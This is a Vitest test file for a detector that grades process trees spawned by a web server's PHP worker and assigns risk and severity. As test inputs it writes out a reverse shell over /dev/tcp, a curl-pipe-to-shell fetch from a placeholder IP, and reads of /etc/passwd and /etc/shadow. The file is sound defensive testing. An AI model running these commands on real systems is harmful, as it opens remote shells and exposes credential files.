import { describe, expect, test } from 'vitest';
import type { SourceEvent } from '../../event/source_event';
import { english } from '../../i18n/english';
import { toTreeReason } from '../to_tree_reason';
import { toTrees } from '../tree/to_trees';
import type { Tree } from '../tree/tree';
import { toNeighbour } from './context_signs';
import { gradeTree } from './grade_tree';

const toEvent = (id: string, executable: string, args: readonly string[]): SourceEvent => ({
  index: 'i',
  id,
  source: {
    '@timestamp': '2026-11-24T00:00:00.000Z',
    host: { id: 'h', name: 'web-1' },
    user: { name: 'www-data' },
    process: {
      entity_id: id,
      executable,
      args,
      parent: { entity_id: 'fpm', executable: '/usr/sbin/php-fpm8.2', args: ['php-fpm: pool www'] },
    },
  },
});
const toTree = (id: string, executable: string, ...args: string[]): Tree => {
  const [tree] = toTrees([toEvent(id, executable, args)]);
  if (tree === undefined) throw new Error('no tree');
  return tree;
};
const sh = (text: string, id = 'a'): Tree => toTree(id, '/usr/bin/dash', 'sh', '-c', text);
const ids = (tree: Tree): string[] => gradeTree(tree).signs.map(({ id }) => id);

describe('gradeTree', () => {
  test('is the doubt that signs leave, gravest sign first', () => {
    const grade = gradeTree(sh('cat /etc/passwd; id'));
    expect(grade.risk).toBeGreaterThan(86);
    expect(grade.severity).toBe('critical');
    expect(grade.signs[0]).toMatchObject({
      id: 'account_file_read',
      technique: 'T1087.001',
      eventId: 'a',
      eventIndex: 'i',
    });
  });

  test('knows a program whose file is gone and one that calls itself a part of the kernel', () => {
    expect(ids(toTree('a', '/memfd:x (deleted)', 'x'))).toContain('gone_program');
    expect(ids(toTree('a', '/usr/lib/x', '[kworker/0:1]'))).toContain('masked_program');
    expect(ids(toTree('a', '/usr/bin/convert', 'convert', 'a.png', 'b.png'))).toEqual([
      'application_habit',
    ]);
  });

  test('knows a shell’s marks that reach a program, and the commands meant by words cut apart', () => {
    expect(ids(toTree('a', '/usr/bin/ls', 'ls', '-la', '|', 'head'))).toContain(
      'stray_shell_words'
    );
    expect(ids(toTree('a', '/usr/bin/find', 'find', '.', '-exec', 'rm', '{}', ';'))).not.toContain(
      'stray_shell_words'
    );
    expect(ids(toTree('a', '/usr/bin/dash', 'sh', '-c', 'cat', '/etc/shadow'))).toContain(
      'account_file_read'
    );
  });

  test('lets habits lower what is weak, and nothing that is certain', () => {
    expect(gradeTree(sh('ping -c 1 gateway')).risk).toBeLessThan(20);
    expect(gradeTree(sh('ping -c 1 gateway; cat /etc/shadow')).risk).toBeGreaterThan(90);
    expect(ids(sh('frobnicate --all'))).toEqual(['unknown_command']);
  });

  test('leaves what an installed program does of its own accord to its author', () => {
    const script = ['/bin/sh', '/usr/share/munin/plugins/processes'];
    const child = toEvent('b', '/usr/bin/uname', ['uname', '-a']);
    const event = {
      ...child,
      source: {
        ...child.source,
        process: {
          ...(child.source['process'] as object),
          parent: { entity_id: 's', executable: '/usr/bin/dash', args: script },
        },
      },
    };
    const plugin = toEvent('s', '/usr/bin/dash', script);
    const under = {
      ...plugin,
      source: {
        ...plugin.source,
        process: {
          ...(plugin.source['process'] as object),
          parent: { entity_id: 'a', executable: '/usr/bin/dash', args: ['sh', '-c', script[1]] },
        },
      },
    };
    const [tree] = toTrees([
      toEvent('a', '/usr/bin/dash', ['sh', '-c', script[1] ?? '']),
      under,
      event,
    ]);
    expect(tree?.starts).toHaveLength(3);
    expect(tree && gradeTree(tree).risk).toBeLessThan(25);
  });

  test.each([
    's//',
    'import sys;',
    '-o a:11 ',
    'conf.',
    '${#a}',
    '{a,',
    'a1',
    '$(echo ',
    '--reverse ',
  ])('is done soon with %j written many thousand times', (text) => {
    for (const program of ['sed', 'python3 -c', 'curl', 'cat']) {
      const used = process.cpuUsage();
      gradeTree(sh(`${program} ${text.repeat(20_000 / text.length)}`));
      expect(process.cpuUsage(used).user / 1000).toBeLessThan(4000);
    }
  });

  test('sees what stands behind a thousand words that mean nothing', () => {
    expect(
      ids(
        toTree(
          'a',
          '/usr/bin/cat',
          'cat',
          ...Array.from({ length: 5000 }, () => 'x'),
          '/etc/shadow'
        )
      )
    ).toContain('account_file_read');
  });

  test('says the same however often it is asked, whatever a command line holds', () => {
    for (const text of [
      '',
      '\u0000',
      '(((((',
      "'",
      '$('.repeat(2000),
      'a'.repeat(100_000),
      '{{a}} <b>|x',
    ]) {
      expect(gradeTree(sh(text))).toEqual(gradeTree(sh(text)));
      expect(gradeTree(sh(text)).risk).toBeGreaterThanOrEqual(0);
    }
  });
});

describe('context', () => {
  const others = ['id', 'ls -la', 'uname -a'].map((text, at) => {
    const tree = sh(text, `n${at}`);
    return toNeighbour(tree, gradeTree(tree));
  });

  test('raises what people type when others typed beside it, up to a grave alert', () => {
    const tree = sh('whoami');
    expect(gradeTree(tree).risk).toBeLessThan(73);
    const grade = gradeTree(tree, { neighbours: others });
    expect(grade.risk).toBeGreaterThanOrEqual(73);
    expect(grade.signs).toContainEqual(
      expect.objectContaining({ id: 'neighbours_by_hand', params: { count: 3 } })
    );
  });

  test('counts different commands only, and never the tree itself', () => {
    const tree = sh('id', 'n0');
    const same = [others[0], others[0]].filter((other) => other !== undefined);
    expect(gradeTree(tree, { neighbours: same })).toEqual(gradeTree(tree));
  });

  test('does not raise what applications do', () => {
    for (const text of ['convert a.png b.png', 'tar -czf /tmp/export.tgz -C /srv/app/data .']) {
      const tree = sh(text);
      expect(gradeTree(tree, { neighbours: others })).toEqual(gradeTree(tree));
    }
  });

  test('raises what says more than habit', () => {
    const tree = sh('tar czf /tmp/w.tgz /var/www');
    const { risk } = gradeTree(tree, { neighbours: others });
    expect(risk).toBeGreaterThan(gradeTree(tree).risk);
  });

  const history = { count: 412, days: 21, since: '2026-11-03T08:00:00.000Z' };

  test('lowers what this host has shown for weeks, and says so', () => {
    const grade = gradeTree(sh('whoami'), { history });
    expect(grade.risk).toBeLessThan(30);
    expect(grade.signs).toContainEqual(
      expect.objectContaining({ id: 'repeated_shape', params: { count: 412, since: '2026-11-03' } })
    );
  });

  test.each([
    'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1',
    'curl -s http://203.0.113.5/x.sh | sh',
    'cat config.php; ls -la /var/www',
  ])('never lowers what is beyond doubt, for a back door can be asked every day: %s', (text) => {
    const tree = sh(text);
    expect(gradeTree(tree, { history })).toEqual(gradeTree(tree));
  });

  test('raises beside other commands what history has lowered', () => {
    const { risk } = gradeTree(sh('whoami'), { history, neighbours: others });
    expect(risk).toBeGreaterThan(gradeTree(sh('whoami'), { history }).risk);
  });

  test('takes one busy day for no habit', () => {
    const tree = sh('whoami');
    expect(gradeTree(tree, { history: { ...history, days: 1 } })).toEqual(gradeTree(tree));
  });
});

describe('toTreeReason', () => {
  test('says what ran and what speaks for an attack in one line of bounded length', () => {
    const tree = sh(`cat /etc/passwd\n; echo ${'x'.repeat(5000)}`);
    const reason = toTreeReason(tree, gradeTree(tree), english);
    expect(reason).toMatch(
      /^php-fpm on web-1 ran a command as www-data that reads the machine’s accounts/
    );
    expect(reason).not.toContain('\n');
    expect(reason.length).toBeLessThan(1000);
  });
});
